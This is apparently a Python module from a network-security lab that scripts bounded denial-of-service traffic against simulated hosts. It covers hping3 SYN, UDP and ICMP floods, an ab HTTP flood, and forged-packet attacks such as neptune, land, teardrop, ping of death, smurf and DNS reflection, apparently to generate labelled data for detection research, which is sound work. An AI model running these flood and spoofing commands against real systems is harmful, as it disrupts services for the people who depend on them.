"""Attacks that wear a host out. All are bounded at 3,000 packets; none could hurt a real host."""

from __future__ import annotations

import random

from lab.attacks.attack import Attack, Scripts, command, forge, some_server, some_web
from lab.forge import MAX_PACKETS
from lab.scene import Scene
from lab.services import SERVERS, SERVICES

N_PACKETS = 2_500


def _hping(kind: str, target: str, rng: random.Random, *flags: str) -> Scripts:
    gap = f"u{rng.randrange(700, 1_800)}"
    argv = ("hping3", "-q", "-n", "-c", str(N_PACKETS), "-i", gap, *flags, target)
    return {kind: [command(kind, *argv)]}


def syn_flood(scene: Scene, rng: random.Random) -> Scripts:
    """Asks for connections and never completes them, from an address of its own."""
    server = rng.choice(("web1", "web2", "ftp1", "telnet1"))
    port = str(SERVICES[SERVERS[server]].port)
    return _hping("syn_flood", scene.address(server), rng, "-S", "-p", port)


def udp_flood(scene: Scene, rng: random.Random) -> Scripts:
    """UDP packets to a port where nobody listens, which answers by ICMP."""
    size, port = str(rng.randrange(20, 400)), str(rng.randrange(2_000, 60_000))
    return _hping("udp_flood", some_server(scene, rng), rng, "--udp", "-p", port, "-d", size)


def icmp_flood(scene: Scene, rng: random.Random) -> Scripts:
    """Echo requests."""
    return _hping("icmp_flood", some_server(scene, rng), rng, "--icmp", "-d", "56")


def _forge(kind: str, target: str, rng: random.Random, **options: object) -> Scripts:
    seed = rng.randrange(10_000)
    return {kind: [command(kind, *forge(kind, target, seed=seed, **options))]}


def neptune(scene: Scene, rng: random.Random) -> Scripts:
    """SYN packets from addresses where nobody is."""
    server = rng.choice(("web1", "web2", "mail1", "ssh1"))
    sources = ",".join(scene.plan.forged("neptune"))
    port = SERVICES[SERVERS[server]].port
    rate = rng.randrange(400, 1_200)
    return _forge(
        *("neptune", scene.address(server), rng),
        sources=sources,
        ports=port,
        packets=N_PACKETS,
        per_s=rate,
    )


def land(scene: Scene, rng: random.Random) -> Scripts:
    """SYN packets that the victim seems to send to itself, from a port to the same port."""
    ports = ",".join(str(port) for port in sorted(rng.sample(range(1, 2_000), 150)))
    return _forge("land", scene.address("land_victim"), rng, ports=ports, packets=300, per_s=60)


def teardrop(scene: Scene, rng: random.Random) -> Scripts:
    """UDP in two fragments, of which the second lies within the first."""
    sources = ",".join(scene.plan.forged("teardrop"))
    target = some_server(scene, rng)
    return _forge("teardrop", target, rng, sources=sources, ports="53,137", packets=600, per_s=80)


def ping_of_death(scene: Scene, rng: random.Random) -> Scripts:
    """Echo requests in 45 fragments that together are longer than an IP packet may be."""
    sources, target = scene.address("ping_of_death"), some_server(scene, rng)
    return _forge("ping_of_death", target, rng, sources=sources, packets=MAX_PACKETS, per_s=400)


def smurf(scene: Scene, rng: random.Random) -> Scripts:
    """Echo requests to everybody in a victim's name; everybody answers the victim."""
    victim, rate = scene.address("smurf_victim"), rng.randrange(10, 25)
    return _forge("smurf", scene.plan.broadcast, rng, sources=victim, packets=110, per_s=rate)


def dns_reflection(scene: Scene, rng: random.Random) -> Scripts:
    """Short questions in a victim's name, whose long answers go to the victim."""
    victim, server = scene.address("dns_reflection_victim"), scene.address("dns1")
    return _forge("dns_reflection", server, rng, sources=victim, packets=1_200, per_s=150)


def http_flood(scene: Scene, rng: random.Random) -> Scripts:
    """Whole requests, as many as one machine can make."""
    url = f"http://{some_web(scene, rng)}/page{rng.randrange(10):02d}.html"
    argv = ("ab", "-q", "-n", "1500", "-c", str(rng.randrange(8, 25)), url)
    return {"http_flood": [command("http_flood", *argv)]}


_FLOOD = MAX_PACKETS + 100
"""Questions about wire addresses (ARP) count as well."""
FLOODS = (
    Attack(
        syn_flood,
        "hping3",
        8,
        2 * _FLOOD,
        "SYN flood from one address, which resets what is answered",
    ),
    Attack(udp_flood, "hping3", 8, _FLOOD, "UDP flood to a closed port"),
    Attack(icmp_flood, "hping3", 8, _FLOOD, "echo request flood"),
    Attack(
        neptune, "raw socket", 10, _FLOOD, "SYN flood from 120 forged addresses", is_forged=True
    ),
    Attack(
        land,
        "raw socket",
        10,
        _FLOOD,
        "source and target are the same",
        helpers={"land_victim": ""},
    ),
    Attack(teardrop, "raw socket", 10, _FLOOD, "overlapping UDP fragments", is_forged=True),
    Attack(ping_of_death, "raw socket", 12, _FLOOD, "echo requests of 66,600 bytes in fragments"),
    Attack(
        *(smurf, "raw socket", 14, _FLOOD, "echo requests to the broadcast address"),
        helpers={"smurf_victim": ""},
    ),
    Attack(
        *(dns_reflection, "raw socket", 12, _FLOOD, "DNS questions in a victim's name"),
        helpers={"dns_reflection_victim": ""},
    ),
    Attack(http_flood, "ab", 6, 30_000, "1,500 requests as fast as possible"),
)
